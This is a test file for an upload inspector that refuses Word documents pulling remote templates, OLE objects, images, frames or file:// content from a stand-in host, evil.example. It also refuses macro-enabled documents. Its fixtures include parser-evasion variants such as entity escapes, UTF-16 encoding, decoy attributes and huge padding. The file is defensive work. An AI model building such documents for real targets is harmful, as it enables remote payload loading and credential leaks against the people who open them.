import { describe, expect, test } from 'bun:test'
import { zipKind } from '../../src/storage/inspection/zip.ts'
import { makeZip } from '../files.ts'

/** A resume that does something when a manager opens it. What the bytes must be is tried beside the code. */

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const KINDS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const TYPES =
  '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'

const word = async (parts: Record<string, string | Uint8Array> = {}, types: string | Uint8Array = TYPES) => {
  const document = { '[Content_Types].xml': types, 'word/document.xml': '<document/>', ...parts }
  const { type, refusal } = await zipKind(makeZip(document, { isCompressed: true }))
  return refusal ?? type
}
const related = (attributes: string, encoding: 'utf8' | 'utf16le' = 'utf8') => ({
  'word/_rels/settings.xml.rels': Buffer.from(`<Relationships><Relationship ${attributes}/></Relationships>`, encoding),
})
const TEMPLATE = `Id="r1" Type="${KINDS}/attachedTemplate" Target="https://evil.example/a.dotm"`

describe('a Word document', () => {
  test.each<[string, Record<string, string | Uint8Array>]>([
    ['its template', related(`${TEMPLATE} TargetMode="External"`)],
    ['in single quotes', related(`${TEMPLATE} TargetMode='External'`)],
    ['with spaces and lines', related(`${TEMPLATE}\n TargetMode\t=\n"External"`)],
    ['in escapes', related(`${TEMPLATE} TargetMode="&#69;xternal"`)],
    ['in two bytes a letter', related(`${TEMPLATE} TargetMode="External"`, 'utf16le')],
    ['an object', related(`Type="${KINDS}/oleObject" Target="https://evil.example/a" TargetMode="External"`)],
    ['a picture', related(`Type="${KINDS}/image" Target="https://evil.example/a.png" TargetMode="External"`)],
    ['a page', related(`Type="${KINDS}/frame" Target="https://evil.example/" TargetMode="External"`)],
    [
      'a file of a neighbour',
      related(`Type="${KINDS}/subDocument" Target="file://evil.example/a" TargetMode="External"`),
    ],
    ['called a link somewhere else', related(`Id='Type="x/hyperlink"' ${TEMPLATE} TargetMode="External"`)],
    ['called a link at its end', related(`A='Type="' ${TEMPLATE} TargetMode="External" B='/hyperlink"'`)],
    ['called inside somewhere else', related(`A='TargetMode="Internal"' ${TEMPLATE} TargetMode="External"`)],
    ['from any of its parts', { 'customXml/_RELS/item.xml.RELS': `<Relationship ${TEMPLATE} TargetMode="External"/>` }],
    ['in more than anybody reads', related(`${TEMPLATE} TargetMode="External" Id="${'x'.repeat(1024 * 1024)}"`)],
  ])('a Word document with external content is refused: %s', async (_, parts) => {
    expect(await word(parts)).toBe('word-external')
  })
  test.each([
    ['macroEnabled', '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'],
    ['vbaProject', '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'],
    ['capitals', '<Types><Default Extension="bin" ContentType="APPLICATION/VND.MS-OFFICE.VBAPROJECT"/></Types>'],
    [
      'two bytes a letter',
      Buffer.from('<Types><Default ContentType="application/vnd.ms-office.vbaProject"/></Types>', 'utf16le'),
    ],
  ])('a Word document with macros is refused, whatever they are called: %s', async (_, types) => {
    expect(await word({ 'word/harmless.bin': 'x' }, types)).toBe('word-macros')
  })

  test('a Word document with plain links is accepted', async () => {
    const link = `Id="r1" Type="${KINDS}/hyperlink" Target="https://kim.example/?a=1&amp;b=2" TargetMode="External"`
    const inside = `Id="r2" Type="${KINDS}/styles" Target="styles.xml" TargetMode="Internal"`
    expect(await word()).toBe(DOCX)
    expect(await word(related(link))).toBe(DOCX)
    expect(
      await word(related(`${inside}/><Relationship ${link}/><Relationship Type="${KINDS}/theme" Target="a.xml"`)),
    ).toBe(DOCX)
  })
})
